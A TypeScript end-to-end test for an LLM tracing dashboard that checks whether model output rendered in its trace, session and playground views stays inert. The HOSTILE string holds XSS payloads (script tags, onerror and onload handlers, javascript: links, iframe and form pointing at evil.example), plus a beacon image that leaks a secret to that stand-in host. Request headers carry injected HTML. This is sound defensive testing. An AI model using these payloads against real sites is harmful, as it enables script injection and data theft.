import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { BOOTSTRAP_KEY, until } from '../harness/system.ts';
import { useBrowser, withPage } from './harness/session.ts';

const { owner, gateway, console: origin } = inject('shared');
useBrowser();

/** All that a model might write to be run, loaded or followed. */
const HOSTILE = `# Hello
<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 1">
<svg onload="window.pwned = 1"><a href="javascript:window.pwned=1">a</a></svg>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
![beacon](https://evil.example/beacon.png?secret)
![inline](data:image/svg+xml,<svg/onload=alert(1)>)
[run](javascript:window.pwned=1) [go](https://evil.example/) <https://evil.example/auto>
[ref]: javascript:window.pwned=1
[by reference][ref]
<form action="https://evil.example/"><input name=q><button>send</button></form>
| a | b |
|:-:|---|
| <b onmouseover="window.pwned=1">1</b> | \`code\` |
`;
let requestId = '';

beforeAll(async () => {
  const response = await fetch(`${gateway}/v1/chat/completions`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${BOOTSTRAP_KEY}`,
      'content-type': 'application/json',
      'x-signalbox-user': '"><img src=x onerror=window.pwned=1>',
      'x-signalbox-session': 'hostile',
      'x-signalbox-tags': '<script>window.pwned=1</script>',
    },
    body: JSON.stringify({
      model: 'sandbox/echo',
      messages: [{ role: 'user', content: HOSTILE }],
    }),
  });
  requestId = response.headers.get('x-request-id') ?? '';
  await until(20, 'the hostile request to be ingested', async () => {
    const found = await fetch(`${origin}/api/v1/traces/${requestId}`, {
      headers: { authorization: `Bearer ${BOOTSTRAP_KEY}` },
    });
    return found.ok;
  });
});

// What is asked of another host, or breaks the policy, fails in withPage.
describe('what a model wrote', () => {
  it.each([
    ['in a trace', () => `/traces/${requestId}`],
    ['in the raw bodies', () => `/traces/${requestId}?tab=raw`],
    ['in its details', () => `/traces/${requestId}?tab=details`],
    ['beside the list', () => `/traces?open=${requestId}`],
    ['in its session', () => '/sessions/hostile'],
  ])('is inert %s', async (_where, path) => {
    await withPage({ as: owner }, async ({ page }) => {
      await page.goto(path());
      await page
        .getByText(/evil\.example|onerror|hostile/)
        .first()
        .waitFor();
      await expectInert(page);
    });
  });

  it('is inert while it streams into the playground', async () => {
    await withPage({ as: owner }, async ({ page }) => {
      await page.goto('/playground');
      await page
        .getByRole('combobox', { name: 'Model of column 1' })
        .or(page.getByLabel('Model of column 1'))
        .first()
        .fill('sandbox/echo');
      await page.keyboard.press('Escape');
      await page.getByLabel('Message 1', { exact: true }).fill(HOSTILE);
      await page.keyboard.press('Control+Enter');
      const answer = page.getByRole('region', { name: 'Answer' });
      await answer.getByText('Open its trace').waitFor();
      await answer
        .getByText(/onerror/)
        .first()
        .waitFor();
      await expectInert(page);
    });
  });
});

async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: Reflect.get(globalThis, 'pwned'),
    shown: getComputedStyle(document.body).display !== 'none',
    // Nothing of it became an element that could act.
    elements: [...document.querySelectorAll('script, iframe, form, style, svg, img, a')]
      .map((element) => element.outerHTML)
      .filter((html) => /evil\.example|pwned|javascript:/.test(html)),
  }));
  expect(found).toEqual({ pwned: undefined, shown: true, elements: [] });
}
